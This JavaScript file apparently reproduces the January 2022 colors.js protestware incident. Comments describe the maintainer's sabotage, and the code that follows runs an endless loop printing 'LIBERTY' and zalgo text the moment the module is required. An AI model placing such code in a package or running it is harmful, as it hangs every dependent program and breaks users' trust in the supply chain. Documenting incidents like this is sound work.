// Incident: colors.js 1.4.1 / 1.4.44-liberty-2 (npm), 8 January 2022.
// The maintainer sabotaged his own package: requiring it entered an endless loop that
// printed "LIBERTY" and zalgo noise, freezing every dependent program (faker.js was
// emptied the same week). Reference: https://github.com/Marak/colors.js/issues/285
// Reproduction (own code): an unconditional endless loop run on require.
module.exports = function americanFlag() {
  console.log('LIBERTY LIBERTY LIBERTY');
  for (let i = 666; i < Infinity; i++) {
    if (i % 333) {
      console.log('\x1b[31m' + 'zalgo'.repeat(i % 7) + '\x1b[0m');
    }
    console.log('\u0303\u0304\u0305 testing testing testing');
  }
};
module.exports();
